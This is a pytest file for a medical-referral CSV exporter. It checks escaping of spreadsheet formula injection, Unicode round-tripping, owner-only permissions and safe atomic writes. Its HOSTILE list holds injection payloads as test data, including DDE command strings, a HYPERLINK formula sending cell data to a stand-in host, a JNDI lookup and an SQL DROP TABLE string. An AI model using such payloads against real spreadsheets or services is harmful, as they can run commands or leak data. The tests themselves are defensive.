"""The CSV: every character kept, no cell a formula, never half a file."""

import csv
import errno
import stat
from collections.abc import Iterator, Mapping
from datetime import date
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from exports.followup_columns import FOLLOW_UP_COLUMNS, OFFICE_COLUMNS
from exports.to_csv import COLUMNS, ENCODING, ESCAPE, escaped, phone_cell, write_referrals
from schemas.errors import MachineError
from schemas.export import ExportedFollowUp, ExportedReferral
from schemas.office import OfficeActivity
from schemas.phones import parse_phone
from schemas.referral import Referral
from schemas.text import clean
from tests.conftest import Golden

HERE = Path(__file__).parent
MANUAL = HERE.parents[1] / "docs" / "csv.md"
FORMULA_SIGNS = "=+-@\t\r\n\0\uff1d\uff0b\uff0d\uff20"

HOSTILE = (
    "=1+1",
    '=HYPERLINK("http://sink.example/?q="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    " =1+1",
    "\u00a0=1+1",
    "\u3000@SUM(1)",
    "\t=1+1",
    "'=1+1",
    "''already quoted",
    "'quoted'",
    '"=1+1"',
    '",=1+1,"',
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "-5 degrees of extension",
    "+ mild swelling",
    "@home programme",
    "= no change",
    "a,b;c|d\te",
    'said "ouch", twice',
    "NA",
    "NULL",
    "nan",
    "None",
    "TRUE",
    "00123",
    "1e10",
    "12/10",
    "Núñez-Ó Séaghdha",
    "Zoë Müller-Łukasz",
    "陳大文",
    "محمد",
    "👩🏽‍🦽 uses a wheelchair",
    "cafe\u0301",
    "#REF!",
    "%0A=1",
    "\\",
    "\\n",
    "--",
    "<script>alert(1)</script>",
    "Robert'); DROP TABLE referrals;--",
    "${jndi:ldap://sink.example}",
    "x" * 120,
)


def _row(**changes: object) -> ExportedReferral:
    referral = Referral.model_validate(
        {
            "design": "met",
            "edition": 1,
            "serial": 123,
            "patient_name": "Ada Quill",
            "patient_phone": "+12125550142",
            "provider_name": "Dr. B. Fenn",
            "diagnosis": "s/p L TKA 9/14",
            "goals": "Stairs, then the garden",
            "precautions": "-5° extension lag; no kneeling",
            "conditions": ("joint_replacement", "osteoarthritis"),
            "services": ("post_rehab",),
            "signed_on": date(2026, 3, 2),
            "next_visit_on": date(2026, 4, 20),
        }
        | changes
    )
    return ExportedReferral(
        patient_id="5",
        referral_id="7",
        file_id="3f2a",
        page=2,
        slip=1,
        office_id="northside",
        office_name="Northside Family Practice",
        accepted_on=date(2026, 3, 3),
        accepted_by="machine",
        referral=referral,
    )


def _as_csv_module_reads(path: Path) -> list[dict[str, str]]:
    with path.open(encoding=ENCODING, newline="") as file:
        return [
            {name: cell.removeprefix(ESCAPE) for name, cell in row.items()} for row in csv.DictReader(file, strict=True)
        ]


def _as_pandas_reads(path: Path) -> list[dict[str, str]]:
    table = pd.read_csv(path, dtype=str, keep_default_na=False)
    return [{str(name): cell.removeprefix(ESCAPE) for name, cell in row.items()} for row in table.to_dict("records")]


def test_the_file_is_the_golden_file(tmp_path: Path, golden: Golden) -> None:
    """Columns, order, quoting and line ends are a promise to whoever imports the file."""
    blank = _row(serial=None, next_visit_on=None, patient_phone="+442079460018", other_condition="= see letter")
    write_referrals(
        [_row(), blank.model_copy(update={"office_id": None, "office_name": None})], tmp_path / "referrals.csv"
    )
    golden(HERE / "golden" / "referrals.csv", (tmp_path / "referrals.csv").read_bytes())


@pytest.mark.parametrize(
    ("section", "columns"),
    [("Referrals", COLUMNS), ("Follow-ups", FOLLOW_UP_COLUMNS), ("Offices", OFFICE_COLUMNS)],
)
def test_every_column_is_documented(section: str, columns: Mapping[str, object]) -> None:
    """docs/csv.md has one table row a column, in the file's order."""
    about = MANUAL.read_text(encoding="utf-8").partition(f"\n## {section}\n")[2].partition("\n## ")[0]
    documented = [line.split("`")[1] for line in about.splitlines() if line.startswith("| `")]
    assert documented == list(columns)


def test_every_part_of_a_referral_is_exported() -> None:
    """A new field of the record must reach the export too, or be left out on purpose."""
    record = set(Referral.model_fields) | set(ExportedReferral.model_fields) - {"referral"}
    assert record - {"answers"} == set(COLUMNS)  # a column each: see below


def test_what_pads_ask_of_their_own_stands_in_columns_behind_the_others(tmp_path: Path) -> None:
    """A column is a promise: refpad's own stay where they are, and no answer can take the name of one of them."""
    path, names = tmp_path / "referrals.csv", ("cleared", "limits", "weeks", "page")
    answered = _row(answers={"cleared": "cleared_yes", "limits": ["no_load", "no_impact"], "weeks": 6, "page": "=1+1"})
    write_referrals([answered, _row()], path, names)
    rows = _as_csv_module_reads(path)
    assert list(rows[0]) == [*COLUMNS, *(f"answer_{name}" for name in names)]
    assert [rows[0][f"answer_{name}"] for name in names] == ["cleared_yes", "no_load; no_impact", "6", "=1+1"]
    assert [rows[1][f"answer_{name}"] for name in names] == ["", "", "", ""]


@pytest.mark.parametrize("payload", HOSTILE)
def test_hostile_text_starts_no_formula_and_comes_back_whole(payload: str, tmp_path: Path) -> None:
    """Slips are written by strangers; a spreadsheet must show what they wrote, and run none of it."""
    path = tmp_path / "referrals.csv"
    row = _row(diagnosis=payload, goals=payload)
    named = row.model_copy(update={"office_name": str(clean(payload))})
    write_referrals([named], path)
    with path.open(encoding=ENCODING, newline="") as file:
        raw = next(csv.DictReader(file))
    assert not any(cell.lstrip().startswith(tuple(FORMULA_SIGNS)) for cell in raw.values() if cell.strip())
    for (read,) in (_as_csv_module_reads(path), _as_pandas_reads(path)):
        assert read["diagnosis"] == read["goals"] == row.referral.diagnosis
        assert read["office_name"] == named.office_name


@given(st.text())
def test_the_escape_can_be_taken_away_again(cell: str) -> None:
    """One rule back for every cell: drop one leading apostrophe."""
    assert escaped(cell).removeprefix(ESCAPE) == cell


@given(st.sampled_from(FORMULA_SIGNS), st.text())
def test_no_cell_starts_with_a_formula_sign(sign: str, rest: str) -> None:
    """Whatever follows the sign."""
    assert escaped(sign + rest).startswith("'")


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"]), max_size=80), min_size=1, max_size=4))
def test_any_diagnosis_survives_both_readers(tmp_path_factory: pytest.TempPathFactory, texts: list[str]) -> None:
    """Whatever Unicode the record holds, the file holds."""
    path = tmp_path_factory.mktemp("csv") / "referrals.csv"
    rows = [_row(diagnosis=text) for text in texts]
    assert write_referrals(rows, path) == len(rows)
    expected = [row.referral.diagnosis for row in rows]
    assert [read["diagnosis"] for read in _as_csv_module_reads(path)] == expected
    assert [read["diagnosis"] for read in _as_pandas_reads(path)] == expected


def test_phones_need_no_escape_and_parse_back(tmp_path: Path) -> None:
    """ "+12125550142" would look like a formula; "(212) 555-0142" is what the front desk dials."""
    assert phone_cell("+12125550142") == "(212) 555-0142"
    assert parse_phone("(212) 555-0142", "US").e164 == "+12125550142"


def test_a_foreign_phone_keeps_its_country_code(tmp_path: Path) -> None:
    """Written the national way it could not be dialled from here."""
    write_referrals([_row(patient_phone="+442079460018")], tmp_path / "a.csv")
    assert _as_pandas_reads(tmp_path / "a.csv")[0]["patient_phone"] == "+442079460018"


def test_no_referrals_make_a_file_of_the_header(tmp_path: Path) -> None:
    """An import that runs before the first referral finds the columns it expects."""
    write_referrals([], tmp_path / "referrals.csv")
    assert (tmp_path / "referrals.csv").read_text(encoding=ENCODING).split() == [",".join(COLUMNS)]


def test_the_file_is_for_its_owner_only(tmp_path: Path) -> None:
    """Names and phones of patients, on a computer that others may log on to."""
    path = tmp_path / "referrals.csv"
    path.touch(mode=0o644)
    write_referrals([_row()], path)
    assert stat.S_IMODE(path.stat().st_mode) == 0o600


def test_a_failure_half_way_leaves_the_old_file(tmp_path: Path) -> None:
    """Whoever reads meanwhile sees the old file; nothing half-written stays behind."""
    path = tmp_path / "referrals.csv"
    write_referrals([_row()], path)
    before = path.read_bytes()

    def rows() -> Iterator[ExportedReferral]:
        yield _row()
        raise OSError(errno.ENOSPC, "No space left on device")

    with pytest.raises(MachineError, match=r"No space left on device.*refpad export csv"):
        write_referrals(rows(), path)
    assert path.read_bytes() == before
    assert [each.name for each in tmp_path.iterdir()] == ["referrals.csv"]


def test_what_a_killed_writer_left_is_replaced(tmp_path: Path) -> None:
    """A kill leaves the temporary file; the next export takes its place, whatever its rights were."""
    (tmp_path / ".referrals.csv.new").write_text("half a")
    write_referrals([_row()], tmp_path / "referrals.csv")
    assert [each.name for each in tmp_path.iterdir()] == ["referrals.csv"]
    assert stat.S_IMODE((tmp_path / "referrals.csv").stat().st_mode) == 0o600


def test_a_link_in_place_of_the_temporary_file_is_not_followed(tmp_path: Path) -> None:
    """Somebody else's link must not make the export overwrite another file."""
    victim = tmp_path / "victim.txt"
    victim.write_text("mine")
    (tmp_path / ".referrals.csv.new").symlink_to(victim)
    write_referrals([_row()], tmp_path / "referrals.csv")
    assert victim.read_text() == "mine"


def test_a_missing_folder_is_one_sentence(tmp_path: Path) -> None:
    """The person who typed the path learns what to mend."""
    with pytest.raises(MachineError, match="No such file or directory"):
        write_referrals([_row()], tmp_path / "nowhere" / "referrals.csv")


def test_every_part_of_a_follow_up_and_of_an_office_is_exported() -> None:
    """A new field must reach the export too, or be left out on purpose."""
    assert set(ExportedFollowUp.model_fields) == {*FOLLOW_UP_COLUMNS, "about"}  # whom only a calendar may name
    assert set(OfficeActivity.model_fields) == set(OFFICE_COLUMNS)
